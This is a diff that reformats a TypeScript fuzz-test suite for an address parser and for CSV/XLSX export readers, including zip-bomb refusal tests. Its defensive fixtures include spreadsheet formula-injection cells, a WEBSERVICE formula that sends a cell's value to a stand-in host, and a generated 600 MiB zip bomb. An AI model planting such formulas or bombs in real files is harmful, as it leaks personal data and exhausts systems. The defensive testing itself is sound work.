@@ -34,7 +34,8 @@ async function outcome(path: string): Promise<{ rows: number; messages: string[]
   }
 }
 
-const textOf = (o: Awaited<ReturnType<typeof outcome>>) => (o instanceof InputError ? o.message : o.messages.join("\n"));
+const textOf = (o: Awaited<ReturnType<typeof outcome>>) =>
+  o instanceof InputError ? o.message : o.messages.join("\n");
 
 async function workbookBytes(rows: unknown[][]): Promise<Buffer> {
   const workbook = new ExcelJS.Workbook();
@@ -46,22 +47,58 @@ async function workbookBytes(rows: unknown[][]): Promise<Buffer> {
 describe("address parser under fuzzing", () => {
   it("never throws, and returns a coherent shape for any text", () => {
     fc.assert(
-      fc.property(fc.oneof(fc.string({ unit: "grapheme", maxLength: 200 }), fc.string({ unit: "binary", maxLength: 200 }), fc.array(fc.constantFrom("12", "bis", "rue", "av.", "13100", "AIX", "-", ",", "bât.", "BP", "CEDEX", "Résidence", "lot", "14-16", "0", "99999")).map((t) => t.join(" "))), (text) => {
-        const parsed = parseAddress(text);
-        expect(parsed.number === null || (Number.isInteger(parsed.number) && parsed.number >= 0)).toBe(true);
-        expect(parsed.postcode === null || /^\d{5}$/.test(parsed.postcode)).toBe(true);
-        expect(Array.isArray(parsed.streetTokens)).toBe(true);
-      }),
+      fc.property(
+        fc.oneof(
+          fc.string({ unit: "grapheme", maxLength: 200 }),
+          fc.string({ unit: "binary", maxLength: 200 }),
+          fc
+            .array(
+              fc.constantFrom(
+                "12",
+                "bis",
+                "rue",
+                "av.",
+                "13100",
+                "AIX",
+                "-",
+                ",",
+                "bât.",
+                "BP",
+                "CEDEX",
+                "Résidence",
+                "lot",
+                "14-16",
+                "0",
+                "99999",
+              ),
+            )
+            .map((t) => t.join(" ")),
+        ),
+        (text) => {
+          const parsed = parseAddress(text);
+          expect(parsed.number === null || (Number.isInteger(parsed.number) && parsed.number >= 0)).toBe(true);
+          expect(parsed.postcode === null || /^\d{5}$/.test(parsed.postcode)).toBe(true);
+          expect(Array.isArray(parsed.streetTokens)).toBe(true);
+        },
+      ),
       { numRuns: 3000 },
     );
   });
 
   it("also takes split addresses with arbitrary parts", () => {
     fc.assert(
-      fc.property(fc.record({ number: fc.option(fc.string()), street: fc.option(fc.string()), postcode: fc.option(fc.string()), commune: fc.option(fc.string()) }), (parts) => {
-        const raw = Object.fromEntries(Object.entries(parts).filter(([, v]) => v !== null)) as Record<string, string>;
-        expect(() => parseAddress(raw)).not.toThrow();
-      }),
+      fc.property(
+        fc.record({
+          number: fc.option(fc.string()),
+          street: fc.option(fc.string()),
+          postcode: fc.option(fc.string()),
+          commune: fc.option(fc.string()),
+        }),
+        (parts) => {
+          const raw = Object.fromEntries(Object.entries(parts).filter(([, v]) => v !== null)) as Record<string, string>;
+          expect(() => parseAddress(raw)).not.toThrow();
+        },
+      ),
       { numRuns: 2000 },
     );
   });
@@ -74,27 +111,42 @@ describe("address parser under fuzzing", () => {
 
 describe("export readers under fuzzing", () => {
   it("CSV: arbitrary cells around personal values give rows or an InputError, never echoing a value", async () => {
-    const cell = fc.oneof(fc.string({ unit: "grapheme", maxLength: 40 }), fc.constantFrom(SECRET_ID, SECRET_ADDRESS, "=1+1", "@SOMME(A1)", "\"", ";", "\r\n", "31/02/1931", "5"));
+    const cell = fc.oneof(
+      fc.string({ unit: "grapheme", maxLength: 40 }),
+      fc.constantFrom(SECRET_ID, SECRET_ADDRESS, "=1+1", "@SOMME(A1)", '"', ";", "\r\n", "31/02/1931", "5"),
+    );
     await fc.assert(
-      fc.asyncProperty(fc.array(fc.array(cell, { minLength: 0, maxLength: 8 }), { maxLength: 15 }), fc.boolean(), async (rows, withHeader) => {
-        const path = fresh(".csv");
-        const lines = withHeader ? [HEADER, ...rows] : rows;
-        writeFileSync(path, lines.map((l) => l.join(";")).join("\r\n"));
-        const text = textOf(await outcome(path));
-        expect(text).not.toContain(SECRET_ID);
-        expect(text).not.toContain(SECRET_ADDRESS);
-      }),
+      fc.asyncProperty(
+        fc.array(fc.array(cell, { minLength: 0, maxLength: 8 }), { maxLength: 15 }),
+        fc.boolean(),
+        async (rows, withHeader) => {
+          const path = fresh(".csv");
+          const lines = withHeader ? [HEADER, ...rows] : rows;
+          writeFileSync(path, lines.map((l) => l.join(";")).join("\r\n"));
+          const text = textOf(await outcome(path));
+          expect(text).not.toContain(SECRET_ID);
+          expect(text).not.toContain(SECRET_ADDRESS);
+        },
+      ),
       { numRuns: 150 },
     );
   });
 
   it("XLSX: a real workbook truncated or with flipped bytes gives rows or an InputError", async () => {
-    const valid = await workbookBytes([HEADER, [SECRET_ID, `${SECRET_ADDRESS} 13100 Aix-en-Provence`, "F", "14/07/1931", "Isolé(e)", 3]]);
+    const valid = await workbookBytes([
+      HEADER,
+      [SECRET_ID, `${SECRET_ADDRESS} 13100 Aix-en-Provence`, "F", "14/07/1931", "Isolé(e)", 3],
+    ]);
     await fc.assert(
       fc.asyncProperty(
         fc.oneof(
           fc.integer({ min: 0, max: valid.length - 1 }).map((cut) => ({ cut, flips: [] as [number, number][] })),
-          fc.array(fc.tuple(fc.integer({ min: 0, max: valid.length - 1 }), fc.integer({ min: 1, max: 255 })), { minLength: 1, maxLength: 12 }).map((flips) => ({ cut: valid.length, flips })),
+          fc
+            .array(fc.tuple(fc.integer({ min: 0, max: valid.length - 1 }), fc.integer({ min: 1, max: 255 })), {
+              minLength: 1,
+              maxLength: 12,
+            })
+            .map((flips) => ({ cut: valid.length, flips })),
         ),
         async ({ cut, flips }) => {
           const bytes = Buffer.from(valid.subarray(0, cut));
@@ -113,11 +165,24 @@ describe("export readers under fuzzing", () => {
   it("huge cells (a 2 MB address in an xlsx, a 5 MB field in a csv) are rejected or read, never a crash", async () => {
     const hugeAddress = `${SECRET_ADDRESS} ${"x".repeat(2 * 2 ** 20)}`;
     const xlsx = fresh(".xlsx");
-    writeFileSync(xlsx, await workbookBytes([HEADER, [SECRET_ID, hugeAddress, "F", "14/07/1931", "Isolé(e)", 3], ["DOS-2", "4 rue Mignet 13100 Aix", "M", "02/03/1940", "Couple", 2]]));
+    writeFileSync(
+      xlsx,
+      await workbookBytes([
+        HEADER,
+        [SECRET_ID, hugeAddress, "F", "14/07/1931", "Isolé(e)", 3],
+        ["DOS-2", "4 rue Mignet 13100 Aix", "M", "02/03/1940", "Couple", 2],
+      ]),
+    );
     const fromXlsx = await outcome(xlsx);
     expect(textOf(fromXlsx)).not.toContain("Quintessence");
     const csv = fresh(".csv");
-    writeFileSync(csv, [HEADER.join(";"), [SECRET_ID, "4 rue Mignet", "F", `${"9".repeat(5 * 2 ** 20)}`, "Isolé(e)", "3"].join(";")].join("\r\n"));
+    writeFileSync(
+      csv,
+      [
+        HEADER.join(";"),
+        [SECRET_ID, "4 rue Mignet", "F", `${"9".repeat(5 * 2 ** 20)}`, "Isolé(e)", "3"].join(";"),
+      ].join("\r\n"),
+    );
     expect(textOf(await outcome(csv))).not.toContain(SECRET_ID);
   });
 
@@ -125,7 +190,18 @@ describe("export readers under fuzzing", () => {
     const path = fresh(".xlsx");
     writeFileSync(
       path,
-      await workbookBytes([HEADER, ["DOS-3", "4 rue Mignet 13100 Aix", "F", "14/07/1931", "Isolé(e)", { formula: "WEBSERVICE(\"http://exemple.invalid/\"&A2)", result: 3 }], ["DOS-4", "=HYPERLINK(\"http://exemple.invalid\")", "M", "02/03/1940", "Couple", 2]]),
+      await workbookBytes([
+        HEADER,
+        [
+          "DOS-3",
+          "4 rue Mignet 13100 Aix",
+          "F",
+          "14/07/1931",
+          "Isolé(e)",
+          { formula: 'WEBSERVICE("http://exemple.invalid/"&A2)', result: 3 },
+        ],
+        ["DOS-4", '=HYPERLINK("http://exemple.invalid")', "M", "02/03/1940", "Couple", 2],
+      ]),
     );
     const result = await outcome(path);
     expect(result).not.toBeInstanceOf(InputError);
@@ -141,7 +217,8 @@ async function deflatedZeros(size: number): Promise<Buffer> {
   const done = new Promise((resolve, reject) => deflate.on("end", resolve).on("error", reject));
   const zeros = Buffer.alloc(16 * 2 ** 20);
   for (let written = 0; written < size; written += zeros.length) {
-    if (!deflate.write(zeros.subarray(0, Math.min(zeros.length, size - written)))) await new Promise((resolve) => deflate.once("drain", resolve));
+    if (!deflate.write(zeros.subarray(0, Math.min(zeros.length, size - written))))
+      await new Promise((resolve) => deflate.once("drain", resolve));
   }
   deflate.end();
   await done;
@@ -193,7 +270,10 @@ describe("zip bombs (loaders/exports/zip-guard.ts, through readExport)", () => {
   it("a 600 MiB bomb (ratio ~1000:1) is refused, honest or lying about its size, within bounded memory", async () => {
     const gib = 600 * 2 ** 20;
     const data = await deflatedZeros(gib);
-    for (const [declared, rule] of [[gib, "xlsx-trop-volumineux"], [1024, "xlsx-bombe-zip"]] as const) {
+    for (const [declared, rule] of [
+      [gib, "xlsx-trop-volumineux"],
+      [1024, "xlsx-bombe-zip"],
+    ] as const) {
       const path = fresh(".xlsx");
       writeFileSync(path, zipBomb(data, declared));
       global.gc?.();
